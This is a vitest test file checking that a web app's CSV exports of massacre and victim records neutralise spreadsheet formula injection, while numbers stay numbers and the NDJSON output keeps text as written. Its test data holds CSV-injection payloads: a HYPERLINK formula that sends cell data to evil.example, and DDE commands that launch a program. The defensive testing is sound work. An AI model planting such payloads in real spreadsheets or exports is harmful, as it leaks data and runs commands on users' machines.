import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { API_BASE, type RecordDto } from '@app/shared';
import { csvRows } from '../src/modules/export/csv';
import { useTestApp } from './fixtures/app';
import { createTestRecord } from './records-helpers';

/**
 * CSV injection (issue 52 item 1): a contributor's text that starts like a formula must come out of every CSV the site
 * writes as text a spreadsheet will not run (OWASP: a leading `'`), read back by csv-parse; numbers stay numbers and
 * the NDJSON keeps the text as written. Every record here is test data.
 */
const FORMULA = /^[=+\-@\t\r]/;
/** What each dangerous first character looks like in a real attack. */
const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
/** Tab and carriage return cannot come through the API (text is trimmed), so they are written into the database. */
const WHITESPACE_ATTACKS = ['\t=1+1', '\r=1+1'];

const EXPORTS = [
  'export.csv',
  'export.csv?bom=true',
  'export/incidents.csv',
  'export/incidents.csv?hxl=1',
  'export/people.csv',
  'export/people.csv?hxl=1',
];

describe('CSV exports neutralise spreadsheet formulas', () => {
  const { t, editor } = useTestApp({ editor: 'contributor' });
  const titles: string[] = [];
  let ip = 0;

  const create = (category: string, fields: Record<string, unknown>) => createTestRecord(t.app, editor.auth, category, fields);

  beforeAll(async () => {
    for (const attack of ATTACKS) {
      const massacre = await create('massacres', {
        title: attack,
        victimizer: attack,
        location: attack,
        zone: attack.slice(0, 100),
        shortDescription: attack,
        latitude: 11.5,
        longitude: -12.25,
        geoPrecision: 'exact',
        quantity: 3,
      });
      await create('victims', { title: `${attack} (victim)`, fullName: attack, location: attack, killingType: attack, incidentId: massacre._id });
      titles.push(attack, `${attack} (victim)`);
    }
    for (const attack of WHITESPACE_ATTACKS) {
      const record = await create('massacres', { title: 'Test massacre (test data)' });
      await t.database.query('update records set title = $1, victimizer = $1 where id = $2', [attack, record._id]);
      titles.push(attack);
    }
  });

  const get = (url: string) => t.app.inject({ method: 'GET', url: `${API_BASE}/${url}`, remoteAddress: `198.51.100.${++ip}` });

  it.each(EXPORTS)('%s: no cell starts a formula, and every attack reads back as its text after a quote', async (url) => {
    const res = await get(url);
    expect(res.statusCode).toBe(200);
    const rows = parse(res.body, { bom: true, relax_column_count: false }) as string[][];
    expect(rows.length).toBeGreaterThan(4);
    for (const row of rows) {
      for (const cell of row) {
        // A number (a negative longitude) is data, not a formula: it stays as it is.
        if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
        expect(cell, `${url}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA);
      }
    }
    const cells = new Set(rows.flat());
    const expected = url.includes('people') ? titles.filter((title) => title.endsWith('(victim)')) : url.includes('incidents') ? titles.filter((title) => !title.endsWith('(victim)')) : titles;
    for (const title of expected) expect(cells, `${url}: ${JSON.stringify(title)}`).toContain(`'${title}`);
  });

  it('numbers stay numbers: a negative longitude is written as a number', async () => {
    const rows = parse((await get('export.csv')).body, { columns: true }) as Record<string, string>[];
    const massacre = rows.find((row) => row.title === `'${ATTACKS[0]}`)!;
    expect(massacre.longitude).toBe('-12.25');
    expect(massacre.quantity).toBe('3');
    const incidents = parse((await get('export/incidents.csv')).body, { columns: true }) as Record<string, string>[];
    expect(incidents.find((row) => row.title === `'${ATTACKS[0]}`)!.longitude).toBe('-12.25');
  });

  it('NDJSON keeps the text exactly as written (a data format, not a spreadsheet)', async () => {
    const lines = (await get('export.ndjson')).body.trim().split('\n').map((line) => JSON.parse(line) as RecordDto);
    expect(lines.map((record) => record.title)).toEqual(expect.arrayContaining(titles));
  });

  it('csvRows: each dangerous first character, in text only; quoting as RFC 4180', () => {
    const cells = ['=1+1', '+1', '-1', '@A1', '\tx', '\rx', 'a;=1', 'plain', '', -3.5, 0, true, null];
    const back = parse(csvRows([cells]), { cast: false }) as string[][];
    expect(back[0]).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", 'a;=1', 'plain', '', '-3.5', '0', 'true', '']);
    // A field with ";" is quoted, so a spreadsheet that splits on ";" keeps it one cell.
    expect(csvRows([['a;=1']])).toBe('"a;=1"\r\n');
  });
});
